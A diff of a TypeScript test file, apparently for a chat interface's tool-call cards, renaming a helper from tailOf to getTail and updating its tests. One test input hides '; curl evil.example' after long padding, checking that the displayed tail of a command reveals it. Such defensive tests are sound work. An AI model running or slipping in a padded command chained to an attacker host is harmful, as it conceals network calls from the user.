@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { fill } from '../../../../src/base/fill.ts';
-import { opensByItself, planProgress, tailOf } from '../../../../src/webview/cards/format.ts';
+import { getTail, opensByItself, planProgress } from '../../../../src/webview/cards/format.ts';
 import type { ToolItem } from '../../../../src/webview/messages/chatState.ts';
 
 const TOOL: ToolItem = {
@@ -27,9 +27,9 @@ test('failures and edits open by themselves, or what the setting says', () => {
 });
 
 test('a long command shows its end', () => {
-  assert.equal(tailOf('ls'), undefined);
-  assert.match(tailOf(`${'x '.repeat(400)}; curl evil.example`) ?? '', /curl evil\.example$/);
-  assert.match(tailOf(`a\n${'\n'.repeat(20)}rm`) ?? '', /rm$/);
+  assert.equal(getTail('ls'), undefined);
+  assert.match(getTail(`${'x '.repeat(400)}; curl evil.example`) ?? '', /curl evil\.example$/);
+  assert.match(getTail(`a\n${'\n'.repeat(20)}rm`) ?? '', /rm$/);
 });
 
 test('values are put into texts', () => {
